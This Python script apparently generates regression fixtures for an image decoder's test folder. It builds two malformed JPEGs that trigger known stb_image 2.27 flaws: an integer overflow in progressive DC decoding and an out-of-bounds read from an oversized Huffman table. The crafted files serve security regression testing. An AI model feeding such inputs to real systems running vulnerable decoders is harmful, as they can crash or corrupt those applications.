#!/usr/bin/env python3
"""Writes the stb_image 2.27 CVE regression files of this folder (docs/data.md, section 7).

cve_2022_28041_prog_dc.jpg: a progressive grey JPEG, 80x8 (10 blocks), whose first DC scan has
  Al = 13 and whose entropy-coded data gives every block the DC difference +32767 (category 15).
  stb 2.27 accumulates the predictor and computes dc * (1 << Al) in int: 294903 * 8192 overflows
  at the ninth block (stbi__jpeg_decode_block_prog_dc).
cve_2022_28042_dht.jpg: the baseline fixture libjpeg_baseline.jpg with one more DHT table (DC,
  id 3) of 200 codes of 15 bits and 200 of 16 bits: not over-subscribed, but 400 symbols where stb
  2.27 has room for 256, so stbi__build_huffman and stbi__jpeg_huff_decode index past the end of
  its 257-entry size table.
Usage: make_cve_files.py  (writes next to itself)
"""
import pathlib
import struct

here = pathlib.Path(__file__).resolve().parent


def segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


def prog_dc_overflow() -> bytes:
    blocks = 10
    bits = ("0" + "1" * 15) * blocks      # code '0' = category 15, then +32767
    data = bytearray()
    for k in range(0, len(bits), 8):
        data.append(int(bits[k:k + 8], 2))
        if data[-1] == 0xFF:
            data.append(0x00)              # byte stuffing
    return (b"\xff\xd8"
            + segment(0xDB, bytes([0x00]) + bytes([1] * 64))                       # DQT 0: all 1
            + segment(0xC2, bytes([8]) + struct.pack(">HH", 8, 8 * blocks) + bytes([1, 1, 0x11, 0]))
            + segment(0xC4, bytes([0x00, 1] + [0] * 15 + [15]))                    # DC 0: '0' -> 15
            + segment(0xDA, bytes([1, 1, 0x00, 0, 0, 13]))                         # Ss=Se=0, Ah=0, Al=13
            + bytes(data) + b"\xff\xd9")


def dht_too_many_symbols() -> bytes:
    base = (here.parent / "libjpeg_baseline.jpg").read_bytes()
    counts = [0] * 14 + [200, 200]
    table = bytes([0x03]) + bytes(counts) + bytes(range(256)) + bytes(144)
    at = base.find(b"\xff\xc4")
    return base[:at] + segment(0xC4, table) + base[at:]


(here / "cve_2022_28041_prog_dc.jpg").write_bytes(prog_dc_overflow())
(here / "cve_2022_28042_dht.jpg").write_bytes(dht_too_many_symbols())
